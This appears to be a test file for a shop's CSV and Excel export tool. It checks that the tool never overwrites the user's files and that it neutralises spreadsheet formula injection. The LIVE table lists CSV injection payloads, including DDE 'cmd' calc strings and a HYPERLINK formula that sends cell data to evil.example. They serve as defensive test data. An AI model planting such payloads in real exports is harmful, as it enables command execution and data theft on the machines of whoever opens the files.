// What a command writes to disk never replaces the shop's own files, and a spreadsheet that opens it runs nothing of it.

import { spawnSync } from 'node:child_process';
import {
  linkSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Book } from 'local-sheets/book/workbook.ts';
import { convert } from 'local-sheets/files/libreoffice.ts';
import { readBook } from 'local-sheets/files/read.ts';
import { writeXlsx } from 'local-sheets/files/xlsx.ts';
import Papa from 'papaparse';
import { afterAll, beforeEach, expect, test } from 'vitest';
import { csvOutputs } from '../../local/cli/csv-tables.ts';
import { isWorkbookOf, writeOutputs } from '../../local/cli/outputs.ts';
import { groupNamed, ownFrom } from '../../local/cli/own.ts';
import { harmless } from '../../src/terms/harmless.ts';
import { HOSTILE } from '../addon/hostile.ts';

const home = mkdtempSync(join(tmpdir(), 'outputs-'));
afterAll(() => rmSync(home, { recursive: true }));
let folder = '';
let orders = '';
const ORDERS =
  'customer,date,amount,note\nAnn,2024-01-05,100,gift\nBob,2024-02-05,50,\nAnn,2024-03-05,70,late\n';
beforeEach(() => {
  folder = mkdtempSync(join(home, 'shop-'));
  orders = join(folder, 'orders.csv');
  writeFileSync(orders, ORDERS);
});

function segment(...words: string[]) {
  return spawnSync('node_modules/.bin/tsx', ['local/cli/segment.ts', ...words], { encoding: 'utf8' });
}
const read = (name: string) => readFileSync(join(folder, name), 'utf8');

test('the order file is never replaced, not even with --force; nothing else is written then', () => {
  const { status, stderr } = segment(orders, '--csv', folder, '--force');
  expect(status).toBe(1);
  expect(stderr).toContain(`${orders} is the file that was read. It stays as it is`);
  expect(readdirSync(folder)).toEqual(['orders.csv']);
  expect(read('orders.csv')).toBe(ORDERS);
});

test.each([
  ['a link to it', symlinkSync],
  ['another name of it', linkSync],
])('%s is the order file too', (_, link) => {
  const other = join(folder, 'report.xlsx');
  link(orders, other);
  const { status, stderr } = segment(orders, '--out', other, '--force');
  expect(status).toBe(1);
  expect(stderr).toContain('is the file that was read');
  expect(read('orders.csv')).toBe(ORDERS);
});

test('--out that is no .xlsx is wrong usage', () => {
  const { status, stderr } = segment(orders, '--out', orders);
  expect(status).toBe(2);
  expect(stderr).toContain('end in .xlsx');
  expect(read('orders.csv')).toBe(ORDERS);
});

test('files of the person stay; with --force they are replaced; our own are written anew without asking', async () => {
  const tables = join(folder, 'tables');
  const out = join(folder, 'report.xlsx');
  expect(segment(orders, '--csv', tables, '--out', out).status).toBe(0);
  const again = segment(orders, '--csv', tables, '--out', out);
  expect(again.status, again.stderr).toBe(0);
  expect(readdirSync(folder).sort()).toEqual(['orders.csv', 'report.xlsx', 'tables']);
  // A workbook of ours is brought up to date in its place.
  const updated = segment(out, '--sheet', 'orders', '--out', out);
  expect(updated.status, updated.stderr).toBe(0);

  // Somebody's own list of customers, and the workbook saved by another program since.
  const own = 'customer,phone\nAnn,0912345678\n';
  writeFileSync(join(tables, 'customers.csv'), own);
  const theirs = await writeXlsx(await readBook(out), 'Microsoft Excel');
  writeFileSync(out, theirs);
  const segments = readFileSync(join(tables, 'segments.csv'));
  writeFileSync(join(tables, 'segments.csv'), '');
  for (const words of [
    [orders, '--csv', tables],
    [orders, '--out', out],
    [out, '--sheet', 'orders', '--out', out],
  ]) {
    const { status, stderr } = segment(...words);
    expect(status).toBe(1);
    expect(stderr).toContain(words.at(-1) === out ? out : join(tables, 'customers.csv'));
    expect(stderr).toContain('--force');
  }
  expect(readFileSync(join(tables, 'customers.csv'), 'utf8')).toBe(own);
  expect(readFileSync(out)).toEqual(Buffer.from(theirs));
  expect(readFileSync(join(tables, 'segments.csv'), 'utf8')).toBe('');

  const forced = segment(orders, '--csv', tables, '--out', out, '--force');
  expect(forced.status, forced.stderr).toBe(0);
  expect(readFileSync(join(tables, 'customers.csv'), 'utf8')).toMatch(/^customer,first,last,/);
  expect(readFileSync(join(tables, 'segments.csv'))).toEqual(segments);
});

test('all files are written, or none: a folder that takes no file leaves no piece behind', () => {
  const blocked = join(folder, 'blocked');
  writeFileSync(blocked, 'a file where a folder should be');
  const output = (path: string) => ({ path, content: 'x', isOurs: () => false });
  expect(() =>
    writeOutputs([output(join(folder, 'a.csv')), output(join(blocked, 'b.csv'))], { force: false }),
  ).toThrow('cannot be written');
  expect(readdirSync(folder).sort()).toEqual(['blocked', 'orders.csv']);
});

test('workbooks of earlier versions are ours; those of other programs are not', async () => {
  const book = Book.blank({});
  const isOurs = isWorkbookOf('Regulars');
  expect(isOurs(await writeXlsx(book, 'Go Excelize'))).toBe(false);
  book.metadata.push({ id: 1, key: 'regulars-sheet', value: 'x', place: null, visible: true } as never);
  expect(isOurs(await writeXlsx(book, 'Go Excelize'))).toBe(true);
  expect(isOurs(await writeXlsx(book, 'LibreOffice/7.4'))).toBe(false);
  expect(isOurs(await writeXlsx(book, 'Regulars'))).toBe(true);
  expect(isOurs(new TextEncoder().encode('no workbook'))).toBe(false);
});

test.each([
  ['customer,first,last,orders', true],
  // Fewer columns, as an earlier version wrote.
  ['customer,first,orders', true],
  ['customer,orders,first', false],
  ['customer', false],
  ['customer,phone,note', false],
  ['', false],
])('a customers.csv that starts with “%s” is ours: %s', (line, ours) => {
  const [file] = csvOutputs(
    'x',
    [{ name: 'customers', header: ['customer', 'first', 'last', 'orders'], rows: [] }],
    false,
  );
  expect(file.isOurs(new TextEncoder().encode(`${line}\nAnn,2\n`))).toBe(ours);
});

// OWASP's list (owasp.org, CSV Injection): = + - @, tab, carriage return, line feed, their full-width forms, and texts that
// open a new cell for a spreadsheet that separates by ; or tab.
const LIVE: readonly (readonly [text: string, written: string])[] = [
  ['=1+1', "'=1+1"],
  ['=HYPERLINK("http://evil.example?x="&A1,"Pay")', '\'=HYPERLINK("http://evil.example?x="&A1,"Pay")'],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
  ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
  ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
  ['@ann', "'@ann"],
  ['-blue', "'-blue"],
  ['  =1+1', "'  =1+1"],
  ['\u200b=1+1', "'\u200b=1+1"],
  ['\t=1+1', "\t'=1+1"],
  ['\r=1+1', "\r'=1+1"],
  ['\n=1+1', "\n'=1+1"],
  ['＝1+1', "'＝1+1"],
  ['＋A1', "'＋A1"],
  ['－A1', "'－A1"],
  ['＠SUM(1)', "'＠SUM(1)"],
  ['Ann;=1+1', "Ann;'=1+1"],
  ['Ann\t@SUM(1)', "Ann\t'@SUM(1)"],
  ['-5;=1+1', "-5;'=1+1"],
];
const HARMLESS = [
  '',
  '-5',
  '-1234.5',
  '-1.5e-7',
  '+5%',
  '-$5',
  '+886912345678',
  '+886 912-345-678',
  '+1 (415) 555-0100',
  '＋886912345678',
  '-',
  '--',
  '2024-01-05',
  'Ann',
  "O'Brien",
  'a=b',
  'ann+gift@shop.example',
  '0912345678',
  '王小明',
  'E-H',
  '#1001',
  "'=1+1",
];

test.each(LIVE)('%j is written as %j', (text, written) => {
  expect(harmless(text)).toBe(written);
  expect(harmless(written)).toBe(written);
});

test.each(HARMLESS)('%j is written as it is', (text) => {
  expect(harmless(text)).toBe(text);
});

test('--raw writes texts as they are', () => {
  const tables = [
    { name: 'customers', header: ['customer', 'net'], rows: LIVE.map(([text]) => [text, '-5']) },
  ];
  const written = (raw: boolean) =>
    Papa.parse<string[]>(csvOutputs('x', tables, raw)[0].content as string, {
      skipEmptyLines: true,
      newline: '\n',
    }).data;
  expect(
    written(true)
      .slice(1)
      .map(([text]) => text),
  ).toEqual(LIVE.map(([text]) => text));
  expect(written(false).slice(1)).toEqual(LIVE.map(([, text]) => [text, '-5']));
});

// 59 = ; 44 = comma; the last word: texts that look like formulas are evaluated.
test.each(['44', '59'])(
  'LibreOffice finds formulas with --raw, none without (separator %s)',
  async (separator) => {
    const rows = [...LIVE.map(([text]) => text), ...HOSTILE, ...HARMLESS].map((text) => [text, '-5']);
    const file = join(folder, 'customers.csv');
    const formulas = async (raw: boolean) => {
      const [{ content }] = csvOutputs(
        folder,
        [{ name: 'customers', header: ['customer', 'net'], rows }],
        raw,
      );
      writeFileSync(file, content);
      const filter = `CSV:${separator},34,76,1,,0,false,true,false,false,false,0,true`;
      const { directory, files } = await convert(file, 'fods', [`--infilter=${filter}`]);
      const flat = readFileSync(files[0], 'utf8');
      rmSync(directory, { recursive: true });
      expect(flat).toContain('cmd|');
      return flat.match(/table:formula="[^"]*"/g) ?? [];
    };
    expect(await formulas(true)).not.toEqual([]);
    expect(await formulas(false)).toEqual([]);
  },
);

test('the command escapes what it writes, and --raw does not', () => {
  writeFileSync(
    orders,
    `customer,date,amount\n"=HYPERLINK(""http://evil"")",2024-01-05,100\n+886912345678,2024-01-06,-20\n`,
  );
  for (const [words, key] of [
    [[], '\'=HYPERLINK("http://evil")'],
    [['--raw'], '=HYPERLINK("http://evil")'],
  ] as const) {
    const tables = join(folder, `tables${words.length}`);
    const { status, stderr } = segment(orders, '--csv', tables, ...words);
    expect(status, stderr).toBe(0);
    const rows = Papa.parse<Record<string, string>>(readFileSync(join(tables, 'orders.csv'), 'utf8'), {
      header: true,
      skipEmptyLines: true,
    }).data;
    expect(rows.map(({ customer, amount }) => [customer, amount])).toEqual([
      [key, '100'],
      ['+886912345678', '-20'],
    ]);
  }
});

test('every text of every table and of the workbook is harmless, and the workbook has no formula', async () => {
  // One of those that differ in width alone: they are one customer.
  const narrow = LIVE.map(([text]) => text.normalize('NFKC'));
  const texts = LIVE.map(([text]) => text).filter(
    (text, i) => !/^\s|[\t\r\n\u200b]/.test(text) && narrow.indexOf(narrow[i]) === i,
  );
  const lines = [0, 1, 2].flatMap((round) =>
    texts.map((text, i) => [
      `${text}${round}`,
      text,
      `2024-0${round + 1}-${String((i % 27) + 1).padStart(2, '0')}`,
      '100',
      ...[text, text, text],
    ]),
  );
  const header = ['order id', 'customer', 'date', 'amount', 'product', 'store', 'channel'];
  writeFileSync(orders, Papa.unparse([header, ...lines]));
  const [tables, book] = [join(folder, 'tables'), join(folder, 'shop.xlsx')];
  const { status, stderr } = segment(orders, '--reports', 'all', '--csv', tables, '--out', book);
  expect(status, stderr).toBe(0);
  const seen = new Set<string>();
  for (const name of readdirSync(tables))
    for (const row of Papa.parse<string[]>(readFileSync(join(tables, name), 'utf8')).data)
      for (const cell of row) {
        expect(harmless(cell), `${name}: ${cell}`).toBe(cell);
        seen.add(cell);
      }
  for (const [text, written] of LIVE) if (texts.includes(text)) expect(seen, text).toContain(written);
  const { sheets } = await readBook(book);
  expect(sheets.length).toBeGreaterThan(6);
  for (const sheet of sheets) expect([...sheet.formulas()], sheet.name).toEqual([]);
});

test('labels, steps, lists and the copy without names: every text is refused, or stands as a text', async () => {
  for (const text of HOSTILE) {
    expect(() => ownFrom({ label: [text] }, 'en'), text).toThrow(/cannot be read near/);
    expect(() => ownFrom({ step: [text] }, 'en'), text).toThrow(/is not WHAT TO DO: DAYS WHEN/);
    expect(() => groupNamed('--list', text), text).toThrow(/is not one of/);
  }
  const texts = HOSTILE.slice(0, 20);
  const quoted = (text: string) => `"${text.replace(/"/g, '""')}"`;
  const names = HOSTILE.filter((text) => !/[\t\r\n:]/.test(text)).slice(0, 20);
  const header = ['order id', 'customer', 'date', 'amount', 'level', 'product', 'store'];
  const lines = [1, 2, 3].flatMap((month) =>
    texts.map((text, i) => [
      ...[`A${month}-${i}`, `c${i}`, `2024-0${month}-${String(i + 1).padStart(2, '0')}`, '100'],
      ...[text, text, text],
    ]),
  );
  writeFileSync(orders, Papa.unparse([header, ...lines]));
  const [tables, copy, book] = [join(folder, 'tables'), join(folder, 'copy'), join(folder, 'shop.xlsx')];
  const made = texts[9]!;
  const { status, stderr } = segment(
    orders,
    ...texts.flatMap((text) => ['--label', `${quoted(text)}: level = ${quoted(text)}`]),
    ...names.flatMap((name, i) => `--step=${name}: ${i} after-last`),
    ...[
      '--list',
      `label:${made}`,
      '--tab',
      `label:${made}`,
      '--reports',
      'today,customers,segments,stores,choices',
    ],
    ...[
      '--csv',
      tables,
      '--private',
      copy,
      '--secret',
      join(folder, 'secret'),
      '--with-products',
      '--out',
      book,
    ],
  );
  expect(status, stderr).toBe(0);
  const { sheets } = await readBook(book);
  expect(sheets.flatMap((sheet) => [...sheet.formulas()])).toEqual([]);
  const cells = new Set(
    sheets.flatMap((sheet) =>
      Array.from({ length: sheet.lastRow() }, (_, row) => [...sheet.rowValues(row)]).flat(),
    ),
  );
  expect(texts.filter((text) => !cells.has(text))).toEqual([]);
  // A tab of an Excel file holds no slash, colon or bracket, and 31 letters.
  expect(sheets.map(({ name }) => name).filter((name) => name.includes('=HYPERLINK("http'))).toHaveLength(2);
  for (const place of [tables, copy])
    for (const name of readdirSync(place)) {
      const found = Papa.parse<string[]>(readFileSync(join(place, name), 'utf8')).data.flat();
      expect(
        found.filter((cell) => harmless(cell) !== cell),
        name,
      ).toEqual([]);
    }
});
